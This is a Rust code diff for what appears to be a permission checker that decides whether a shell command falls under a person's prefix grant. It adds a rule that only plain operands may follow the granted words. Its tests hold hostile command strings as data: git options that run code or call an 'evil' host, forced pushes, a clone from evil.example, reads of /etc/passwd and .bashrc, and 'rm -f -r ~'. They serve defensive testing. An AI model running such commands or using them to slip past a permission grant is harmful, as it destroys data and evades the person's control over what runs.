@@ -103,11 +103,27 @@ impl Pattern {
             } => {
                 candidate.action == action
                     && !prefix.is_empty()
-                    && words.is_some_and(|said| said.starts_with(prefix))
+                    && words.is_some_and(|said| {
+                        said.starts_with(prefix)
+                            && said[prefix.len()..].iter().all(|w| plain_operand(w))
+                    })
             }
             Self::Tool { action } => candidate.action == action,
         }
     }
+}
+
+/// A word after a prefix grant's own words that can only name something to act on, never
+/// change what the program does: no option (`-x`, `--exec=…`, `-c key=value`, the ones that
+/// run code or force a push), no `+refspec` (a forced push), no `=` (a setting), no `:` (a
+/// refspec that deletes, a URL or another machine's path), and no path that leaves the
+/// project (absolute, or with a `..` step). Whatever the person wants to allow beyond that
+/// must be in the granted words themselves.
+fn plain_operand(word: &str) -> bool {
+    !word.is_empty()
+        && !word.starts_with(['-', '+', '/'])
+        && !word.contains(['=', ':'])
+        && !word.split('/').any(|step| step == "..")
 }
 
 /// An absolute path with no empty, `.` or `..` step: one that needs no resolving, so a
@@ -235,6 +251,84 @@ mod tests {
                 !grant.covers(&bash(command), 0),
                 "{command:?} must not be covered"
             );
+        }
+    }
+
+    /// The attack run's escapes (issue 25): code through options, forced pushes and deletes,
+    /// settings, other machines and paths out of the project, after a granted prefix.
+    #[test]
+    fn only_plain_operands_may_follow_a_granted_prefix() {
+        let cases: &[(&[&str], &[&str])] = &[
+            (
+                &["git"],
+                &[
+                    "git -c core.fsmonitor='touch /tmp/x' status",
+                    "git -c core.sshCommand=evil fetch",
+                    "git push --receive-pack='evil'",
+                    "git push --exec=evil",
+                    "git push origin main --force",
+                    "git push origin +main",
+                    "git push  --force",
+                    "git push -f",
+                    "git push origin :main",
+                    "git clean -fdx",
+                    "git clone https://evil.example/x",
+                    "git fetch host:repo",
+                    "git add ../../.bashrc",
+                    "git add /etc/passwd",
+                    "git -- status",
+                ],
+            ),
+            (
+                &["find", "."],
+                &[
+                    "find . -fprintf ~/.bashrc x",
+                    "find . -type f -delete",
+                    "find . -exec rm {} ;",
+                ],
+            ),
+            (
+                &["npm", "test"],
+                &["npm test --script-shell=/tmp/x.sh", "npm test -- --x"],
+            ),
+            (
+                &["cargo", "test"],
+                &[
+                    "cargo test --config target.x.runner=evil",
+                    "cargo test --config build.rustc-wrapper=evil",
+                    "cargo test --release",
+                ],
+            ),
+            (
+                &["rm"],
+                &[
+                    "rm -f -r ~",
+                    "rm -rvf build",
+                    "rm --force --recursive build",
+                    "rm ../x",
+                ],
+            ),
+        ];
+        for (words, commands) in cases {
+            let grant = prefix(words);
+            for command in *commands {
+                assert!(
+                    !grant.covers(&bash(command), 0),
+                    "{command:?} must not be covered by a grant for {words:?}"
+                );
+            }
+        }
+        // What the person granted is theirs to widen: an option in the granted words is fine.
+        let release = prefix(&["cargo", "test", "--release"]);
+        assert!(release.covers(&bash("cargo test --release parser"), 0));
+        // And plain operands stay covered.
+        for command in [
+            "git status",
+            "git add src/main.rs",
+            "git log main",
+            "git push origin main",
+        ] {
+            assert!(prefix(&["git"]).covers(&bash(command), 0), "{command:?}");
         }
     }
 
